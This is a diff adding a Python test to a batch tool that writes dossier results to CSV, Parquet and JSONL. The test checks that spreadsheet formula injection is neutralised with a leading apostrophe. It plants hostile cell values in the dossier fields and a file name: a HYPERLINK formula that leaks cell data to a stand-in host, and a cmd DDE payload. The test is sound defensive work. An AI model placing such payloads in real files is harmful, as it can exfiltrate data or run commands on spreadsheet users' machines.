@@ -242,3 +242,43 @@ def test_a_running_batch_still_refuses_a_second_one_and_names_its_process(run, t
         fcntl.flock(fh, fcntl.LOCK_EX | fcntl.LOCK_NB)
         code, _, stderr = run("batch", _batch_folder(tmp_path, {}), "-o", out)
     assert code == 2 and "another batch (process 4242) is writing to this folder" in stderr
+
+
+def test_dossier_text_that_a_spreadsheet_would_run_as_a_formula_is_text_in_every_csv(run, tmp_path, monkeypatch):
+    """A zone named `=HYPERLINK(...)` is a formula to Excel even inside CSV quotes: every CSV writes such a cell
+    with a leading apostrophe (shown as text); the Parquet tables and results.jsonl keep the dossier's words."""
+    import csv
+
+    import pyarrow.parquet as pq
+    d = json.loads((EXAMPLES / "failing-donghai-2016.json").read_text(encoding="utf-8"))
+    link = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
+    d["zone"]["name"] = {"en": link, "zh": "@SUM(1+1)"}
+    d["zone"]["city"] = {"en": "+cmd|' /C calc'!A0", "zh": "-2+3"}
+    folder = tmp_path / "in"
+    folder.mkdir()
+    (folder / "=evil.json").write_text(json.dumps(d, ensure_ascii=False), encoding="utf-8")
+    out = tmp_path / "out"
+    monkeypatch.chdir(folder)       # the file column holds the name as given: "=evil.json"
+    code, _, err = run("batch", "=evil.json", "-o", out, "--jobs", 1)
+    assert code == 1, err
+    import pyarrow as pa
+    text = {name: [f.name for f in pq.read_schema(out / name.replace(".csv", ".parquet"))
+                   if pa.types.is_string(getattr(f.type, "value_type", f.type))]
+            for name in ("outcomes.csv", "verdicts.csv")}
+    for name in ("outcomes.csv", "verdicts.csv", "summary.csv"):
+        with open(out / name, encoding="utf-8-sig", newline="") as fh:
+            rows = list(csv.DictReader(fh))
+        assert rows, name
+        for row in rows:
+            for column in text.get(name, row):       # numbers (a negative gap) are numbers, not text
+                cell = row[column]
+                assert not cell or cell == "-" or cell[0] not in "=+-@\t\r", (name, column, cell)
+            assert row["file"] == "'=evil.json"
+        if "zone_en" in rows[0]:
+            assert {r["zone_en"] for r in rows} == {"'" + link}
+            assert {r["zone_zh"] for r in rows} == {"'@SUM(1+1)"}
+            assert {r["city_zh"] for r in rows} == {"'-2+3"}
+    for name in ("outcomes.parquet", "verdicts.parquet"):
+        assert set(pq.read_table(out / name)["zone_en"].to_pylist()) == {link}
+    line = json.loads((out / "results.jsonl").read_text(encoding="utf-8"))
+    assert line["dossier"]["zone"]["name"]["en"] == link
